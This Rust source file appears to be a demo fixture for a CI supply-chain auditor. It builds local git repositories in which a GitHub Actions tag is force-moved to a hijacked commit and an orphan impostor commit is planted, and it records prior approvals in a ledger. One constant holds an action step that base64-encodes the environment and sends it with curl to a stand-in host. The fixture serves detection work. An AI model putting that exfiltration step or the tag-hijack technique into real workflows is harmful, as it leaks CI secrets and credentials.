//! The forge that the demo's workflow takes its actions from: real git repositories in a folder, one of them with a
//! tag that was moved, one with a commit that no branch or tag contains; and what alice's ledger knows of them.

use std::path::{Path, PathBuf};

use super::repo::{git, write};
use crate::audit::ledger::{self, Line, What};
use crate::domain::ids::DecisionId;
use crate::domain::principal::{Assurance, Principal};
use crate::domain::text::Text;
use crate::domain::time::{Ms, Span};
use crate::sys::{clock, random};

/// Composite, and calls another action.
const SCANNER: &str = "name: scan\nruns:\n  using: composite\n  steps:\n    - uses: aquasecurity/setup-trivy@v0.2.2\n    - run: trivy fs .\n      shell: bash\n";
/// What somebody moved the tag to.
const HIJACKED: &str = "name: scan\nruns:\n  using: composite\n  steps:\n    - run: curl -s https://collect.example/$(base64 -w0 <(env))\n      shell: bash\n    - uses: aquasecurity/setup-trivy@v0.2.2\n";
const PLAIN: &str = "name: plain\nruns:\n  using: node20\n  main: index.js\n";
const NOTIFY: &str = "on: workflow_call\njobs:\n  tell:\n    runs-on: ubuntu-latest\n    container: alpine:3.22\n    steps:\n      - uses: $/actions/say\n";

/// The forge, and the commits that workflows name.
pub struct Forge {
    root: PathBuf,
    /// `actions/checkout` at v4.2.2.
    pub checkout: String,
    /// `aquasecurity/trivy-action` at 0.33.0, reviewed long ago.
    pub scanner: String,
    /// The same at 0.33.1, before the tag was moved.
    pub update: String,
    /// `acme/pipelines`, where a reusable workflow lies.
    pub pipelines: String,
    /// A commit of `acme/deploy-action` that is on no branch and no tag.
    pub impostor: String,
}

impl Forge {
    /// Makes the repositories below `root`.
    pub fn make(root: &Path) -> color_eyre::Result<Self> {
        let mut forge = Self {
            root: root.to_owned(),
            checkout: String::new(),
            scanner: String::new(),
            update: String::new(),
            pipelines: String::new(),
            impostor: String::new(),
        };
        forge.checkout = forge.release("actions/checkout", &[("action.yml", PLAIN)], "v4.2.2")?;
        forge.release("aquasecurity/setup-trivy", &[("action.yml", PLAIN)], "v0.2.2")?;
        forge.scanner = forge.release("aquasecurity/trivy-action", &[("action.yaml", SCANNER)], "0.33.0")?;
        let better = format!("{SCANNER}# faster\n");
        forge.update = forge.release("aquasecurity/trivy-action", &[("action.yaml", &better)], "0.33.1")?;
        forge.stray("aquasecurity/trivy-action", HIJACKED)?;
        forge.at("aquasecurity/trivy-action", &["tag", "--force", "0.33.1"])?;
        forge.at("aquasecurity/trivy-action", &["checkout", "--quiet", "--force", "main"])?;
        let files = [(".github/workflows/notify.yml", NOTIFY), ("actions/say/action.yml", PLAIN)];
        forge.pipelines = forge.release("acme/pipelines", &files, "v3")?;
        forge.release("acme/deploy-action", &[("action.yml", PLAIN)], "v1")?;
        forge.impostor = forge.stray("acme/deploy-action", HIJACKED)?;
        forge.at("acme/deploy-action", &["checkout", "--quiet", "--force", "main"])?;
        Ok(forge)
    }

    /// Its address, as the config has it.
    pub fn address(root: &Path) -> String {
        format!("file://{}", root.display())
    }

    fn folder(&self, name: &str) -> PathBuf {
        self.root.join(format!("{name}.git"))
    }

    fn at(&self, name: &str, args: &[&str]) -> color_eyre::Result<String> {
        git(&self.folder(name), args)
    }

    /// A commit on `main` with a tag.
    fn release(&self, name: &str, files: &[(&str, &str)], tag: &str) -> color_eyre::Result<String> {
        let folder = self.folder(name);
        if !folder.exists() {
            std::fs::create_dir_all(&folder)?;
            git(&folder, &["init", "--quiet", "--initial-branch", "main"])?;
            for (key, value) in [
                ("user.name", "Mallory"),
                ("user.email", "mallory@example.com"),
                ("commit.gpgsign", "false"),
                ("tag.gpgsign", "false"),
            ] {
                git(&folder, &["config", key, value])?;
            }
        }
        for (path, text) in files {
            write(&folder.join(path), text)?;
        }
        self.commit(name, tag)?;
        self.at(name, &["tag", tag])?;
        self.at(name, &["rev-parse", "HEAD"])
    }

    /// A commit that hangs on nothing.
    fn stray(&self, name: &str, text: &str) -> color_eyre::Result<String> {
        self.at(name, &["checkout", "--quiet", "--detach"])?;
        let folder = self.folder(name);
        let file = ["action.yml", "action.yaml"].into_iter().map(|file| folder.join(file)).find(|file| file.exists());
        write(&file.unwrap_or_else(|| folder.join("action.yml")), text)?;
        self.commit(name, "Bump dependencies")?;
        self.at(name, &["rev-parse", "HEAD"])
    }

    fn commit(&self, name: &str, subject: &str) -> color_eyre::Result<()> {
        self.at(name, &["add", "--all"])?;
        self.at(name, &["commit", "--quiet", "--message", subject]).map(drop)
    }

    /// What alice and dan approved in the days before.
    pub fn remember(&self, state: &Path) -> color_eyre::Result<()> {
        let now = clock::now().wall;
        let mut lines = Vec::new();
        for (days, person, action, reference, sha) in [
            (40, "alice", "actions/checkout", self.checkout.as_str(), &self.checkout),
            (40, "alice", "aquasecurity/trivy-action", self.scanner.as_str(), &self.scanner),
            (9, "dan", "acme/pipelines/.github/workflows/notify.yml", self.pipelines.as_str(), &self.pipelines),
            (2, "dan", "aquasecurity/trivy-action", "0.33.1", &self.update),
        ] {
            lines.push(approved(now - Span::hours(24 * days), person, (action, reference, sha))?);
        }
        Ok(ledger::append(state, &lines)?)
    }
}

fn approved(at: Ms, person: &str, (action, reference, sha): (&str, &str, &String)) -> color_eyre::Result<Line> {
    let by = Principal {
        issuer: "demo".into(),
        subject: person.into(),
        assurance: Assurance::Bearer,
        person: Some(person.parse()?),
    };
    Ok(Line {
        at,
        what: What::Approved,
        action: action.into(),
        reference: reference.into(),
        sha: Text::from(sha.as_str()),
        repository: "acme/shop".into(),
        environment: "production".into(),
        by: Some(by),
        decision: Some(DecisionId::new(at, random::bytes()?)),
    })
}
